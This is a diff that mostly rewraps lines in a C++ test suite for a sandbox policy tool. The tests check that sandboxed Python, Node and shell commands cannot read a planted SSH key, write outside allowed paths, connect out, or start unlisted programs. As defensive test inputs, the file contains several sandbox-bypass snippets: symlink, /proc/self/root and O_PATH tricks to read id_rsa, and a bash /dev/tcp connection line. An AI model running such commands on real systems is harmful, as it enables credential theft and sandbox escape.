@@ -52,7 +52,8 @@ class Listener {
 
   private:
     void Shell(const std::string& script) {
-        EXPECT_EQ(Wait(Start({.argv = {"/bin/sh", "-c", script}, .out = "/dev/null", .err = out_ + ".ip"})), 0)
+        EXPECT_EQ(Wait(Start({.argv = {"/bin/sh", "-c", script}, .out = "/dev/null", .err = out_ + ".ip"})),
+                  0)
             << ReadText(out_ + ".ip");
     }
     std::string name_;
@@ -68,11 +69,12 @@ class Attack : public ::testing::Test {
         product_->Put("in/.ssh/id_rsa", absl::StrCat(kSecret, "\n"));
         listener_ = new Listener(*product_);
         for (const char* name : {"python-tool", "node-tool", "build-tool", "shell-tool", "networkless"}) {
-            product_->Put(absl::StrCat("observe-", name, ".yaml"),
-                          absl::StrCat("apiVersion: stockade.dev/v1\nkind: SandboxPolicy\nmetadata: {name: observed-", name,
-                                       "}\nspec:\n  extends: [base, ", name, "]\n  mode: observe\n",
-                                       // A way out at all: without an allowed network there is no link.
-                                       "  network: {allow: [{cidr: 203.0.113.0/24, ports: [443]}]}\n"));
+            product_->Put(
+                absl::StrCat("observe-", name, ".yaml"),
+                absl::StrCat("apiVersion: stockade.dev/v1\nkind: SandboxPolicy\nmetadata: {name: observed-",
+                             name, "}\nspec:\n  extends: [base, ", name, "]\n  mode: observe\n",
+                             // A way out at all: without an allowed network there is no link.
+                             "  network: {allow: [{cidr: 203.0.113.0/24, ports: [443]}]}\n"));
         }
     }
     static void TearDownTestSuite() {
@@ -80,10 +82,12 @@ class Attack : public ::testing::Test {
         delete product_;
     }
     static Ran Enforced(const std::string& policy, const std::vector<std::string>& command) {
-        return product_->Run(SourcePath("rules/policies/" + policy + ".yaml"), command, {"--in", product_->Path("in")});
+        return product_->Run(SourcePath("rules/policies/" + policy + ".yaml"), command,
+                             {"--in", product_->Path("in")});
     }
     static Ran Observed(const std::string& policy, const std::vector<std::string>& command) {
-        return product_->Run(product_->Path("observe-" + policy + ".yaml"), command, {"--in", product_->Path("in")});
+        return product_->Run(product_->Path("observe-" + policy + ".yaml"), command,
+                             {"--in", product_->Path("in")});
     }
     static inline Product* product_;
     static inline Listener* listener_;
@@ -120,11 +124,12 @@ TEST_F(Attack, CredentialsAreNotRead) {
 
 // By names that are not those of the policy.
 TEST_F(Attack, CredentialsAreNotReadByAnAlias) {
-    for (const char* code : {"import os; os.symlink('/in/.ssh', '/tmp/s'); print(open('/tmp/s/id_rsa').read())",
-                             "import os; os.chdir('/in/.ssh'); print(open('id_rsa').read())",
-                             "print(open('/proc/self/root/in/.ssh/id_rsa').read())",
-                             "import os; d = os.open('/in', os.O_PATH); print(os.read(os.open('.ssh/id_rsa', 0, "
-                             "dir_fd=d), 99))"}) {
+    for (const char* code :
+         {"import os; os.symlink('/in/.ssh', '/tmp/s'); print(open('/tmp/s/id_rsa').read())",
+          "import os; os.chdir('/in/.ssh'); print(open('id_rsa').read())",
+          "print(open('/proc/self/root/in/.ssh/id_rsa').read())",
+          "import os; d = os.open('/in', os.O_PATH); print(os.read(os.open('.ssh/id_rsa', 0, "
+          "dir_fd=d), 99))"}) {
         const Ran ran = Enforced("python-tool", {"python3", "-c", code});
         EXPECT_NE(ran.status, 0) << code;
         EXPECT_THAT(ran.out, Not(HasSubstr(kSecret)));
@@ -141,7 +146,8 @@ TEST_F(Attack, NothingIsWrittenElsewhere) {
     ExpectRefusedByUs(ran, "/dev/shm/dropper");
     EXPECT_EQ(Observed("build-tool", command).out, "wrote\n");
     for (const char* path : {"/etc/x", "/usr/bin/x", "/in/x", "/x"}) {
-        const Ran other = Enforced("python-tool", {"python3", "-c", absl::StrCat("open('", path, "', 'w'); print('wrote')")});
+        const Ran other = Enforced(
+            "python-tool", {"python3", "-c", absl::StrCat("open('", path, "', 'w'); print('wrote')")});
         EXPECT_NE(other.status, 0) << path;
         EXPECT_THAT(other.out, Not(HasSubstr("wrote"))) << path;
         EXPECT_FALSE(other.Refusals().empty()) << path;
@@ -156,7 +162,8 @@ TEST_F(Attack, NothingIsConnectedTo) {
         {"networkless", {"python3", "-c", python}},
         {"shell-tool", {"bash", "-c", "exec 3<>/dev/tcp/198.51.100.10/8080 && cat <&3"}},
         {"node-tool",
-         {"node", "-e", "require('net').connect(8080, '198.51.100.10').on('data', d => console.log(d + ''))"}},
+         {"node", "-e",
+          "require('net').connect(8080, '198.51.100.10').on('data', d => console.log(d + ''))"}},
     };
     for (const auto& [policy, command] : ways) {
         SCOPED_TRACE(policy);
@@ -175,7 +182,9 @@ TEST_F(Attack, ProgramsBesideTheListAreNotRun) {
     // What each tool may start is in its policy's comments; these are what an injected script wants.
     const std::vector<std::pair<std::string, std::vector<std::string>>> ways = {
         {"node-tool", {"sh", "-c", "bash -c 'echo ran'"}},
-        {"node-tool", {"node", "-e", "console.log(require('child_process').execSync('python3 -c \"print(\\'ran\\')\"') + '')"}},
+        {"node-tool",
+         {"node", "-e",
+          "console.log(require('child_process').execSync('python3 -c \"print(\\'ran\\')\"') + '')"}},
         {"build-tool", {"sh", "-c", "python3 -c 'print(\"ran\")'"}},
         {"shell-tool", {"sh", "-c", "cp /bin/echo /tmp/echo && /tmp/echo ran"}},
     };
